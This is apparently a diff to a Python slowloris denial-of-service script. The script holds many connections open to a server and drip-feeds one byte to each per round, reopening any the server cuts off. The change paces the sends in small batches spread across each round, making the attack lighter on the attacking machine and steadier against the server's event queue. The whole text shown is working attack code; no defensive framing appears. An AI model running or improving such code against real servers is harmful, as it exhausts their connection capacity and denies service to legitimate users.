@@ -22,20 +22,27 @@ for _ in range(n):
     connect()
 print(f"slowloris: {n} connections opened", flush=True)
 end = time.monotonic() + duration
+ROUND, BATCH = 0.2, 25  # each connection gets one byte per round, in small batches spread over it
 while time.monotonic() < end:
-    # One byte to each connection per round; the select timeout paces rounds
-    # and reports connections the server closed.
-    for s, pending in list(conns.items()):
-        try:
-            s.send(pending[:1])
-            conns[s] = pending[1:]
-        except OSError:
-            pass
-    for key, _ in sel.select(timeout=0.2):
-        s = key.fileobj
-        sel.unregister(s)
-        s.close()
-        del conns[s]
-        reconnects += 1
-        connect()
+    # Spread over the round, so that neither this client's CPU nor the
+    # server's event queue is taken by one burst of n sends; the waits
+    # between batches report connections the server closed.
+    batch = list(conns.keys())
+    waits = max(1, (len(batch) + BATCH - 1) // BATCH)
+    for i in range(0, max(len(batch), 1), BATCH):
+        for s in batch[i:i + BATCH]:
+            if s not in conns:
+                continue
+            try:
+                s.send(conns[s][:1])
+                conns[s] = conns[s][1:]
+            except OSError:
+                pass
+        for key, _ in sel.select(timeout=ROUND / waits):
+            s = key.fileobj
+            sel.unregister(s)
+            s.close()
+            del conns[s]
+            reconnects += 1
+            connect()
 print(f"slowloris: {n} connections, {reconnects} cut off by the server and reopened")
